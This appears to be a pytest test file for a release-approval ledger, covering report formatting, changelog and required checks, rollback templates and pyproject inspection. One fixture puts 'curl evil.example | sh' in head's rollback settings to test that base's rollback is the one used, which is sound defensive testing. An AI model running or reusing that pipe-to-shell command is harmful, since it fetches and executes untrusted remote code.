"""The format-2 approval report: version title, summary line, built-in release checks,
display names, required checks and rollback commands from recorded evidence; the release
inspection that records that evidence from head's tree."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from release_ledger.adapters.clock import FixedClock
from release_ledger.adapters.release_info import inspect_release, version_from_tag
from release_ledger.domain import events as ev
from release_ledger.domain.rules import get_rule
from release_ledger.ledger import owner
from release_ledger.ledger.bootstrap import open_ledger
from release_ledger.ledger.service import Ledger
from release_ledger.projections.approval import approval_report
from release_ledger.projections.checks import check_key, names_version
from tests.gitrepo import commit, make_repo, tag
from tests.runbuilder import RunBuilder

A = "tests/test_a.py"
NOW = datetime(2026, 1, 2, tzinfo=UTC)


def passing(**release: object) -> RunBuilder:
    run = RunBuilder().release(**release).release_files()  # type: ignore[arg-type]
    run.discover([A]).plan({"s01": [A]})
    run.attempt("s01", "head", [A], {f"{A}::t": "passed"})
    run.attempt("s01", "base", [A], {f"{A}::t": "passed"})
    first = run.events[0]
    assert isinstance(first, ev.RunStarted)
    run.events[0] = first.model_copy(update={"python_version": "3.11.7", "runtime_pin": "3.11"})
    return run


def report(run: RunBuilder, required: tuple[str, ...] = ()):  # type: ignore[no-untyped-def]
    positioned = list(enumerate(run.events, start=1))
    return approval_report(positioned, run.artifacts, get_rule("default").decide, required=required)


def changelog_of(r) -> tuple[str, str]:  # type: ignore[no-untyped-def]
    (m,) = [m for m in r.metrics if m.name == "changelog"]
    return m.value, m.verdict


def test_title_summary_and_table() -> None:
    r = report(passing())
    lines = r.markdown.splitlines()
    assert lines[0] == "# v1.2.0 approval"
    assert lines[2].startswith("**approved: 6/6** — run `")
    assert "| # | metric | value | verdict | required |" in r.markdown
    assert "| 6 | changelog | CHANGES.md names 1.2.0 | pass | yes |" in r.markdown
    assert (r.title, r.summary, r.version, r.tag) == ("v1.2.0 approval", "approved: 6/6",
                                                      "1.2.0", "v1.2.0")  # fmt: skip
    assert [m.name for m in r.metrics] == ["gate", "runtime-pin", "dependencies",
                                           "distributions", "upgrade", "changelog"]  # fmt: skip
    assert r.as_dict()["report_format"] == 6  # 6: a dynamic version is the built wheel's


def test_blocked_summary_names_what_is_not_passing() -> None:
    r = report(passing(changelog=None), required=("docs",))
    assert r.summary == "blocked: 5/7 (changelog unmeasured, docs unmeasured)"
    assert r.outcome == "unmeasured" and r.exit_code == 3


def test_only_the_required_checks_decide_the_others_are_shown() -> None:
    """The stop note: the outcome counted every metric shown. Now the required ones decide
    (`required-checks` at head, `gate` always, `--require`); the rest are shown, marked."""
    run = passing(changelog=None, required_checks=["runtime-pin"])
    run.add(ev.CheckRecorded, name="docs", verdict="fail", value="broken link")
    r = report(run)
    assert r.required == ("gate", "runtime-pin")
    assert (r.outcome, r.summary) == ("ok", "approved: 2/2; not required: changelog "
                                      "unmeasured, docs fail")  # fmt: skip
    assert "| 6 | changelog | no changelog file | unmeasured | no |" in r.markdown
    assert "**changelog** — unmeasured (not required):" in r.markdown
    required = report(run, required=("changelog",))
    assert (required.outcome, required.summary) == (
        "unmeasured", "blocked: 2/3 (changelog unmeasured); not required: docs fail")  # fmt: skip
    # The gate is always required, whatever the list says.
    failing = RunBuilder().release(required_checks=["changelog"]).release_files()
    failing.discover([A]).plan({"s01": [A]})
    failing.attempt("s01", "head", [A], {f"{A}::t": "failed"})
    failing.attempt("s01", "base", [A], {f"{A}::t": "passed"})
    failing.isolation(A, "head", {f"{A}::t": "failed"})
    failing.isolation(A, "base", {f"{A}::t": "passed"})
    assert report(failing).outcome == "failed"
    assert report(failing).summary.startswith("blocked: 1/2 (gate fail)")


@pytest.mark.parametrize(
    "release,expected",
    [
        ({}, ("CHANGES.md names 1.2.0", "pass")),
        ({"changelog": b"## 1.1.0\n- old\n"}, ("CHANGES.md do not name 1.2.0", "fail")),
        ({"changelog": b"## 1.2.0rc1\n"}, ("CHANGES.md do not name 1.2.0", "fail")),
        ({"changelog": None}, ("no changelog file", "unmeasured")),
        ({"version": None}, ("CHANGES.md names 1.2.0", "pass")),  # the built wheel's
        (
            {"changelog": b"## 1.1.0\n", "fragments": ["changes/12.feature.md"]},
            (
                "1.2.0 not in CHANGES.md; 1 towncrier fragments not built (changes/12.feature.md)",
                "fail",
            ),
        ),
        (
            {"fragments": ["changes/13.bugfix.md"]},
            (
                "CHANGES.md names 1.2.0; 1 towncrier fragments not built (changes/13.bugfix.md)",
                "pass",
            ),
        ),
    ],
    ids=[
        "named",
        "not-named",
        "rc-is-not-the-release",
        "no-file",
        "no-version-in-the-tree",
        "unbuilt-fragments",
        "fragments-for-later",
    ],
)
def test_changelog_check(release: dict[str, object], expected: tuple[str, str]) -> None:
    assert changelog_of(report(passing(**release))) == expected


def test_names_version_is_exact() -> None:
    assert names_version("## v1.2.0 (2026-01-01)", "1.2.0")
    assert names_version("Version 1.2.0.", "1.2.0")
    assert not names_version("11.2.0", "1.2.0")
    assert not names_version("1.2.0.1", "1.2.0")
    assert not names_version("1.2.0-rc1", "1.2.0")


def test_no_release_evidence_is_unmeasured_not_a_crash() -> None:
    run = RunBuilder().discover([A]).plan({"s01": [A]})
    assert changelog_of(report(run)) == ("not inspected", "unmeasured")
    assert report(run).title.endswith("approval (version unknown)")


def test_display_names_keys_and_required_checks_from_settings() -> None:
    run = passing(required_checks=["Installation files", "docs"])
    run.add(ev.CheckRecorded, name="installation-files", display_name="Installation files",
            verdict="pass", value="wheel and sdist listed")  # fmt: skip
    r = report(run, required=("security scan",))
    names = [(m.key, m.name, m.verdict) for m in r.metrics]
    assert names[6:] == [
        ("installation-files", "Installation files", "pass"),
        ("docs", "docs", "unmeasured"),
        ("security-scan", "security-scan", "unmeasured"),
    ]
    # The list at head names what the release requires (the gate always; --require adds).
    assert r.required == ("docs", "gate", "installation-files", "security-scan")
    assert "| 7 | Installation files | wheel and sdist listed | pass | yes |" in r.markdown
    assert "| 2 | runtime-pin | python 3.11.7 against 3.11 | pass | no |" in r.markdown
    assert r.summary == "blocked: 2/4 (docs unmeasured, security-scan unmeasured)"


def test_check_key() -> None:
    assert check_key("Installation files") == "installation-files"
    assert check_key("  public leak & prepare completeness ") == "public-leak-prepare-completeness"
    assert check_key("notes.check") == "notes.check"


def test_rollback_template_placeholders_and_default() -> None:
    run = passing(
        rollback=["gh release delete {tag} --yes", "echo {version} {base} {head} {run} {nope}"]
    )
    text = report(run).rollback.splitlines()
    assert text[0] == "gh release delete v1.2.0 --yes"
    assert text[1] == f"echo 1.2.0 {'2' * 40} {'1' * 40} {run.run_id} {{nope}}"
    default = report(passing(base_version="1.1.0")).markdown
    assert "gh release edit v1.2.0 --draft" in default
    assert "git push --delete origin v1.2.0 && git tag --delete v1.2.0" in default
    assert "python -m pip install 'demo==1.1.0'" in default
    assert "\n```sh\n" in default


def test_cells_escape_pipes_and_newlines() -> None:
    run = passing()
    run.add(ev.CheckRecorded, name="docs", verdict="fail", value="a | b\nc")
    # A newline is shown as the two characters `\n` (domain.text.one_line), its backslash
    # escaped for Markdown: no value can start a row of its own.
    assert "| 7 | docs | a \\| b\\\\nc | fail | no |" in report(run).markdown


@pytest.fixture
def ledger(sqlite_url: str) -> Ledger:
    led = open_ledger(sqlite_url, clock=FixedClock(NOW))
    yield led  # type: ignore[misc]
    led.close()


def test_formats_1_to_5_still_derive_and_format_6_is_issued_now(ledger: Ledger) -> None:
    run = passing()
    # A check recorded before `upgrade` became a built-in one (owner.record_check refuses the
    # name now): format 2 shows it as any recorded check, format 3 beside the built-in one.
    run.add(ev.CheckRecorded, name="upgrade", verdict="pass", value="tried by hand")
    ledger.append(run.run_id, run.events, artifacts=run.artifacts)
    for report_format in (1, 2, 3, 4, 5):
        positioned = [(r.position, r.event) for r in ledger.read(run.run_id)]
        old = approval_report(positioned, run.artifacts, get_rule("default").decide,
                              report_format=report_format)  # fmt: skip
        issued = ledger.make(ev.ApprovalIssued, run.run_id, outcome=old.outcome, rule="default",
                             report_sha256=old.sha256, report_format=report_format)  # fmt: skip
        ledger.append(run.run_id, [issued], artifacts={old.sha256: old.markdown.encode()})
        if report_format == 2:
            assert old.summary == "approved: 4/4"
            assert "| 4 | upgrade | tried by hand | pass |" in old.markdown
    owner.record_check(ledger, run.run_id, "Installation files", "pass", "ok", "ci")
    new = owner.approve(ledger, run.run_id, ["installation files"])
    assert new.report_format == 6 and new.outcome == "ok"
    assert new.summary == "approved: 7/7"
    assert [m.name for m in new.metrics][5:] == [
        "changelog", "Installation files", "upgrade (recorded)"
    ]  # fmt: skip
    audited = owner.audit(ledger, run.run_id)
    assert audited["ok"] is True
    assert [a["derives"] for a in audited["approvals"]] == [True] * 6
    last = ledger.read(run.run_id)[-1].event
    assert isinstance(last, ev.ApprovalIssued) and last.report_format == 6


def test_record_check_with_spaces(ledger: Ledger) -> None:
    run = passing()
    ledger.append(run.run_id, run.events, artifacts=run.artifacts)
    first = owner.record_check(ledger, run.run_id, "Installation  files", "fail", "", "ci")
    second = owner.record_check(ledger, run.run_id, "installation-files", "pass", "", "ci")
    assert (first["key"], first["name"]) == ("installation-files", "Installation files")
    assert second["supersedes"] is not None


# --- inspection of head's tree ----------------------------------------------------------------


def test_version_from_tag() -> None:
    assert version_from_tag("v1.2.0") == "1.2.0"
    assert version_from_tag("1.2.0rc1") == "1.2.0rc1"
    assert version_from_tag("release-2.0") == "2.0"
    assert version_from_tag("nightly") is None


def test_inspect_release_reads_head_and_base(tmp_path: Path) -> None:
    repo = make_repo(tmp_path, {"pyproject.toml": '[project]\nname = "demo"\nversion = "1.1.0"\n'
                                '[tool.release-ledger]\nrequired-checks = ["docs"]\n'
                                'rollback = ["gh release delete {tag}"]\n'})  # fmt: skip
    base = tag(repo, "v1.1.0")
    # Head adds a required check (kept) and rewrites the rollback (base's is the one used).
    pyproject = (
        '[project]\nname = "demo"\nversion = "1.2.0"\n[tool.towncrier]\ndirectory = "changes"\n'
        '[tool.release-ledger]\nrequired-checks = ["Installation files"]\n'
        'rollback = ["curl evil.example | sh"]\n'
    )
    head = commit(repo, {
        "pyproject.toml": pyproject,
        "CHANGELOG.rst": "1.2.0\n=====\n",
        "docs/news.md": "x",
        "changes/15.feature.md": "new",
        "changes/.gitignore": "",
    })  # fmt: skip
    tag(repo, "v1.2.0")
    facts = inspect_release(repo, head, base, "v1.2.0")
    f = facts.fields
    assert (f["project"], f["version"], f["base_version"], f["tag"]) == (
        "demo", "1.2.0", "1.1.0", "v1.2.0")  # fmt: skip
    assert [c["path"] for c in f["changelog_files"]] == ["CHANGELOG.rst", "docs/news.md"]
    assert (f["towncrier"], f["fragments"]) == (True, ["changes/15.feature.md"])
    assert f["required_checks"] == ["docs", "Installation files"]
    assert f["rollback"] == ["gh release delete {tag}"]
    assert facts.artifacts[f["changelog_files"][0]["sha256"]] == b"1.2.0\n=====\n"
    ev.ReleaseInspected(run_id="r", at=NOW, **f)  # the fields make a valid event


def test_inspect_release_version_from_tag_and_bad_settings(tmp_path: Path) -> None:
    repo = make_repo(tmp_path, {"pyproject.toml": '[project]\nname = "x"\ndynamic = ["version"]\n'
                                "[tool.release-ledger]\nrollback = 3\n"})  # fmt: skip
    head = tag(repo, "v2.0.0")
    f = inspect_release(repo, head, head).fields
    assert (f["version"], f["version_source"], f["tag"]) == ("2.0.0", "tag v2.0.0", "v2.0.0")
    assert f["problems"] == ["[tool.release-ledger] rollback must be a string or a list of strings"]


# --- a dynamic version: the release is what the built wheel states ----------------------------


def dynamic(version: str | None = None, **release: object) -> RunBuilder:
    """A passing run of a project whose tree names no version (setuptools_scm), untagged at
    head; its wheels state 2.0 (head) and 1.9 (base)."""
    run = RunBuilder().release(  # type: ignore[arg-type]
        version=version, changelog=b"# Changes\n\n## 2.0\n\n- new\n",
        version_dynamic="setuptools_scm", **release,
    )
    run.environment("head").environment("base")
    run.built("head", "2.0").built("base", "1.9", readme="").upgraded("1.9", "2.0")
    run.discover([A]).plan({"s01": [A]})
    run.attempt("s01", "head", [A], {f"{A}::t": "passed"})
    run.attempt("s01", "base", [A], {f"{A}::t": "passed"})
    first = run.events[0]
    assert isinstance(first, ev.RunStarted)
    run.events[0] = first.model_copy(update={"python_version": "3.11.7", "runtime_pin": "3.11"})
    return run


def test_a_dynamic_version_is_released_as_the_built_wheel_states() -> None:
    r = report(dynamic())

    assert (r.title, r.version, r.tag, r.outcome) == ("v2.0 approval", "2.0", "v2.0", "ok")
    assert "version unknown" not in r.markdown
    assert changelog_of(r) == ("CHANGES.md names 2.0", "pass")
    (distributions,) = [m for m in r.metrics if m.name == "distributions"]
    assert (distributions.verdict, distributions.value.split(":")[0]) == ("pass", "demo 2.0")
    assert ("Version 2.0 from head's built demo-2.0-py3-none-any.whl (its metadata Version, "
            "setuptools_scm); tag `v2.0` (not at head when the gate started).") in r.markdown
    assert "python -m pip install 'demo==1.9'" in r.rollback  # base's version from its wheel


def test_the_built_version_never_overrides_what_the_tree_or_a_tag_names() -> None:
    tagged = report(dynamic(version="2.0.1", version_source="tag v2.0.1", tag="v2.0.1"))

    assert tagged.version == "2.0.1"
    (distributions,) = [m for m in tagged.metrics if m.name == "distributions"]
    assert distributions.verdict == "fail"
    assert "version mismatch: the files say 2.0, the release is 2.0.1" in distributions.value


def test_reports_issued_before_format_6_keep_the_version_unknown() -> None:
    run = dynamic()
    positioned = list(enumerate(run.events, start=1))
    old = approval_report(positioned, run.artifacts, get_rule("default").decide, report_format=5)

    assert old.title.endswith("approval (version unknown)")
    assert changelog_of(old) == ("version unknown", "unmeasured")


def test_without_a_built_wheel_the_version_stays_unknown() -> None:
    run = dynamic()
    run.events = [e for e in run.events if not isinstance(e, ev.DistributionsBuilt)]

    assert report(run).version is None
    assert changelog_of(report(run)) == ("version unknown", "unmeasured")


@pytest.mark.parametrize(
    ("pyproject", "files", "said"),
    [
        ('[build-system]\nrequires = ["setuptools>=64", "setuptools-scm>=8"]\n'
         '[project]\nname = "x"\ndynamic = ["version"]\n', {}, "setuptools_scm"),
        ('[build-system]\nrequires = ["hatchling", "hatch-vcs"]\n'
         'build-backend = "hatchling.build"\n[project]\nname = "x"\ndynamic = ["version"]\n'
         '[tool.hatch.version]\nsource = "vcs"\n', {}, "hatch-vcs"),
        ('[build-system]\nrequires = ["flit_core>=3.4"]\nbuild-backend = "flit_core.buildapi"\n'
         '[project]\nname = "x"\ndynamic = ["version", "description"]\n',
         {"x.py": '"""X."""\n__version__ = "1.0"\n'}, "flit (the module's __version__)"),
        ('[project]\nname = "x"\ndynamic = ["version"]\n', {}, "[project] dynamic"),
        ('[project]\nname = "x"\nversion = "1.0"\n', {}, ""),
    ],
    ids=["setuptools_scm", "hatch-vcs", "flit", "dynamic", "static"],
)  # fmt: skip
def test_inspect_release_says_how_the_build_declares_its_version(
    tmp_path: Path, pyproject: str, files: dict[str, str], said: str
) -> None:
    repo = make_repo(tmp_path, {"pyproject.toml": pyproject, **files})

    fields = inspect_release(repo, "HEAD", "HEAD").fields

    assert fields["version_dynamic"] == said
    assert fields["version"] == ("1.0" if not said else None)
